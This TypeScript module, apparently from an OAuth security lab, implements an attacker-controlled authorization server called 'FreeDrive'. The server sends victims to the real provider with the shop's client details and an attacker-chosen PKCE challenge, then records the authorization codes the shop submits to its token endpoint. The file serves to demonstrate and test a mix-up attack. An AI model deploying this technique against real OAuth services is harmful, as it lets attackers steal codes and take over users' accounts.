import type { IncomingMessage } from 'node:http'
import { text } from 'node:stream/consumers'
import type { EvilPage, Place } from '../engine/lab.ts'

/** What FreeDrive passes on in the place of the challenge that it was sent. Nothing: it passes on what came. */
export type Chosen = { code_challenge: string }

/**
 * FreeDrive, an authorization server that Mallory runs. Whoever wants to sign in is sent on to CloudDrive, with the shop's
 * question, so that she signs in there; and what the shop then brings is written down.
 */
export function freeDrive({ shop, auth, evil, inbox }: Place, chosen: Chosen): Record<string, EvilPage> {
  return {
    '/.well-known/oauth-authorization-server': (_req, res) => {
      const endpoints = ['authorization', 'token', 'revocation'].map((name) => [`${name}_endpoint`, `${evil}/${name}`])
      const metadata = { issuer: evil, ...Object.fromEntries(endpoints) }
      res.setHeader('Content-Type', 'application/json').end(JSON.stringify(metadata))
    },
    '/authorization': (req, res) => {
      const asked = new URL(req.url ?? '', evil).searchParams
      const question = {
        ...{
          response_type: 'code',
          client_id: 'printshop-web',
          redirect_uri: `${shop}/callback`,
          scope: 'photos.read',
        },
        ...{ state: asked.get('state') ?? '', code_challenge_method: 'S256' },
        code_challenge: chosen.code_challenge || (asked.get('code_challenge') ?? ''),
      }
      res.writeHead(303, { Location: `${auth}/authorize?${new URLSearchParams(question)}` }).end()
    },
    '/token': async (req, res) => {
      keep(inbox, await text(req))
      const refusal = { error: 'invalid_grant', error_description: 'Try again later' }
      res.writeHead(400, { 'Content-Type': 'application/json' }).end(JSON.stringify(refusal))
    },
    '/challenge': async (req, res) => {
      chosen.code_challenge = (await form(req)).get('code_challenge')?.trim() ?? ''
      inbox.pop() // Mallory's own
      res.writeHead(303, { Location: '/' }).end()
    },
  }
}

function keep(inbox: Place['inbox'], body: string): void {
  const request = inbox.at(-1)
  if (request) request.body = body
}

const form = async (req: IncomingMessage) => new URLSearchParams(await text(req))
